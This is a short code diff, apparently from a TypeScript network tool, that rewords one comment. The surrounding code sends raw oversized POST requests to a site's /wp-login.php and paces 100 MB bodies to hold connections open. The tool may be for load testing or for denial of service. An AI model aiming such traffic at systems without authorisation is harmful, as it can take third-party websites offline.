@@ -20,7 +20,7 @@ async function post(target: Target, bytes: number, n: number, signal: AbortSigna
   socket.write(`POST /wp-login.php HTTP/1.1\r\nhost: ${host}\r\ncontent-length: ${bytes}\r\n\r\n`)
   for (let sent = block.length; sent < bytes && !socket.destroyed; sent += block.length) {
     const isTaken = socket.write(block)
-    // 100 MB in some twenty seconds; whoever is not read waits
+    // 100 MB in about twenty seconds; a connection that is not read waits
     if (sent % MB === 0) await pause(200, signal)
     while (!isTaken && socket.writableNeedDrain && !socket.destroyed) await pause(100, signal)
     if (signal.aborted) break
